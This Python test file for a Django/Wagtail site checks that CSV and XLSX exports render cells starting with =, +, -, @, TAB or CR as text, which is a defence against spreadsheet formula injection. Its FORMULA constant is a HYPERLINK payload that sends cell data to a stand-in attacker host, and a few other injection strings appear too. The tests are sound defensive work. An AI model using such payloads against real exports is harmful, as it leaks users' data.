"""No spreadsheet formula gets out of an export: cells that start with = + - @ TAB or CR are
written as text (a leading ') in every CSV and XLSX export, Wagtail's own reports included."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from leernetwerk.kernel.roles import Role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")'


def _csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode("utf-8-sig")
    dialect = ";" if text.splitlines()[0].count(";") > text.splitlines()[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text), delimiter=dialect) for cell in row]


def _xlsx_cells(response) -> list:
    from openpyxl import load_workbook

    body = b"".join(response.streaming_content)
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def logged_case(make_user, make_case):
    """A case whose author titled it with a formula, in Wagtail's page log (site history)."""
    from wagtail.log_actions import log

    author = make_user(Role.PROFESSIONAL)
    case = make_case(owner=author, title=FORMULA)
    log(instance=case, action="wagtail.edit", user=author)
    return case


def test_the_site_history_csv_writes_a_formula_as_text(client, make_user, logged_case):
    client.force_login(make_user(None, is_superuser=True))
    response = client.get("/admin/reports/site-history/", {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


def test_the_site_history_xlsx_writes_a_formula_as_text(client, make_user, logged_case):
    client.force_login(make_user(None, is_superuser=True))
    response = client.get("/admin/reports/site-history/", {"export": "xlsx"})
    assert response.status_code == 200
    cells = _xlsx_cells(response)
    assert "'" + FORMULA in cells
    assert FORMULA not in cells


@pytest.mark.parametrize("title", ["+31 6 kosten", "-2+3 aanvragen", "@SUM(A1:A9)", "=1+1"])
def test_the_overdue_patterns_report_writes_every_formula_start_as_text(client, make_user, title):
    from leernetwerk.patterns import services
    from leernetwerk.patterns.models import Pattern

    manager = make_user(Role.MANAGER)
    pattern = services.pattern_create(user=manager, title=title, description="Te lang")
    Pattern.objects.filter(pk=pattern.pk).update(
        next_deadline=timezone.localdate() - timezone.timedelta(days=3)
    )
    client.force_login(make_user(None, is_superuser=True))
    response = client.get(reverse("patterns_overdue_report"), {"export": "csv"})
    assert response.status_code == 200
    cells = _csv_cells(response)
    assert "'" + title in cells
    response = client.get(reverse("patterns_overdue_report"), {"export": "xlsx"})
    assert "'" + title in _xlsx_cells(response)


def test_numbers_stay_numbers_in_the_overdue_report(client, make_user):
    from leernetwerk.patterns import services
    from leernetwerk.patterns.models import Pattern

    manager = make_user(Role.MANAGER)
    pattern = services.pattern_create(user=manager, title="Wachttijd", description="Te lang")
    Pattern.objects.filter(pk=pattern.pk).update(
        next_deadline=timezone.localdate() - timezone.timedelta(days=3)
    )
    client.force_login(make_user(None, is_superuser=True))
    cells = _xlsx_cells(client.get(reverse("patterns_overdue_report"), {"export": "xlsx"}))
    assert 3 in cells  # days overdue: a number, not the text "'3"


def test_the_pattern_export_writes_a_formula_in_a_title_as_text(client, make_user):
    from leernetwerk.patterns import services

    manager = make_user(Role.MANAGER)
    services.pattern_create(user=manager, title="@SUM(1+1)*cmd", description="Te lang")
    client.force_login(manager)
    cells = _csv_cells(client.get(reverse("leernetwerk_patterns:export")))
    assert "'@SUM(1+1)*cmd" in cells and "@SUM(1+1)*cmd" not in cells


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Wachttijd = lang", "Wachttijd = lang"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_which_cells_are_written_as_text(value, written):
    from leernetwerk.kernel.spreadsheets import neutralise_formula

    assert neutralise_formula(value) == written
